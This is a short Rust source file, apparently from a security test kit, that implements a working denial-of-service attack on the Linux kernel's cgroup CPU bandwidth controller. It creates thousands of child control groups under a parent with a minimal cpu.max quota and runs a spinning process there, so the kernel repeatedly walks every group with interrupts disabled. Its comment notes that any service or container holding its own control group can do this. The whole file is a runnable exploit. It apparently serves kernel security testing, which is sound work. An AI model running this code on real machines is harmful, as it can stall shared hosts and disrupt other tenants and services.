//! An attack of our own: many control groups below one whose `cpu.max` is used up again and again. The kernel visits all of them
//! each time, with interrupts off. Whoever was given a control group of its own, as services and containers are, can do that.

use crate::kit::group::{create, write};
use crate::kit::process::{set_policy, spin};

/// As many as it may have; fewer, if the kernel does not allow as many.
const GROUPS: usize = 5000;
/// In microseconds: the least quota, and the period.
const MAX: &str = "1000 2000";

/// For ever. The caller's group is its own to change.
pub fn run(group: &str) -> Result<(), String> {
    let (own, many) = (format!("{group}/own"), format!("{group}/many"));
    create(&own)?;
    write(&format!("{own}/cgroup.procs"), "0")?;
    write(&format!("{group}/cgroup.subtree_control"), "+cpu")?;
    create(&many)?;
    write(&format!("{many}/cgroup.subtree_control"), "+cpu")?;
    let hog = format!("{many}/hog");
    create(&hog)?;
    let made = (0..GROUPS).take_while(|index| create(&format!("{many}/{index}")).is_ok()).count();
    eprintln!("{made} control groups");
    write(&format!("{many}/cpu.max"), MAX)?;
    // Of SCHED_FIFO it would not be held back.
    set_policy(libc::SCHED_OTHER as u32, 0)?;
    write(&format!("{hog}/cgroup.procs"), "0")?;
    spin()
}
